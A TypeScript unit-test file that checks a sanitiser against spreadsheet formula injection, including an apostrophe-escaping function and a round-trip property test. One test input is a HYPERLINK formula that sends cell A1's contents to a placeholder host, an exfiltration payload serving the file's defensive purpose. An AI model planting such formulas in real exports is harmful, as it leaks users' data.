import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { inertText, restoreText } from "./inert";

describe("inertText", () => {
  it.each([
    [
      '=HYPERLINK("http://ejemplo.invalid/?x="&A1,"Ver")',
      `'=HYPERLINK("http://ejemplo.invalid/?x="&A1,"Ver")`,
    ],
    ["@SUM(1)", "'@SUM(1)"],
    ["-2+3", "'-2+3"],
    ["+56 9 1234 5678", "'+56 9 1234 5678"],
    ["\t=1", "'\t=1"],
    ["\r=1", "'\r=1"],
    ["=1+1", "'=1+1"],
  ])("neutralises %j", (hostile, expected) => {
    expect(inertText(hostile)).toBe(expected);
  });

  it.each(["Programa de Bienestar municipal.", "95%", "2024-2029", "", "'ya citado", " =espacio"])(
    "leaves %j as it is",
    (text) => {
      expect(inertText(text)).toBe(text);
    },
  );

  it("keeps a text that already starts with an apostrophe recoverable", () => {
    expect(inertText("'=1")).toBe("''=1");
    expect(restoreText("''=1")).toBe("'=1");
  });

  it("never leaves a text starting with a trigger, and restoreText undoes it", () => {
    fc.assert(
      fc.property(
        fc.oneof(fc.string(), fc.string({ unit: fc.constantFrom("'", "=", "-", "a", "\t") })),
        (text) => {
          const out = inertText(text);
          expect(/^[=+\-@\t\r]/.test(out)).toBe(false);
          expect(restoreText(out)).toBe(text);
        },
      ),
    );
  });
});
